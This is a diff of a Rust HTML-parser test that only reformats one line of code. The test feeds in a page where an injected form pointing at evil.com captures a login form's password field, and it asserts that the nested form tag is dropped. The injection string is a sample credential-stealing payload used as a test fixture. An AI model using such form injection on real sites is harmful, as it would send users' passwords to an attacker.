@@ -172,11 +172,7 @@ fn de4_injected_form_controls_submission() {
     let page = "<form action=\"https://evil.com\"><form action=\"/login\" method=\"post\">\
         <input name=\"user\"><input name=\"pass\" type=\"password\"></form>";
     let doc = parse_document(page);
-    let forms: Vec<_> = doc
-        .dom
-        .all_elements()
-        .filter(|&id| doc.dom.is_html(id, "form"))
-        .collect();
+    let forms: Vec<_> = doc.dom.all_elements().filter(|&id| doc.dom.is_html(id, "form")).collect();
     assert_eq!(forms.len(), 1, "the nested form start tag is dropped");
     assert_eq!(doc.dom.element(forms[0]).unwrap().attr("action"), Some("https://evil.com"));
     // The password field now submits to evil.com.
